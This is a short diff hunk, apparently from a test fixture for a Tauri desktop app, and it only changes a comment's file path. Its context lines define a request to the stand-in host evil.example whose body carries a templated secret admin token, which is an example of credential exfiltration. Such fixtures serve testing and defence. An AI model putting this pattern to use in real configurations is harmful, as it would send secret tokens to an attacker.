@@ -32,7 +32,7 @@ url = "https://evil.example/login"
 body = { token = "{{ secret.admin_token }}" }
 `;
 const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true };
-// All of src-tauri/src/commands.rs.
+// All of src-tauri/src/commands/mod.rs.
 const COMMANDS = [
   ["console_state", {}],
   ["keyring_problem", {}],
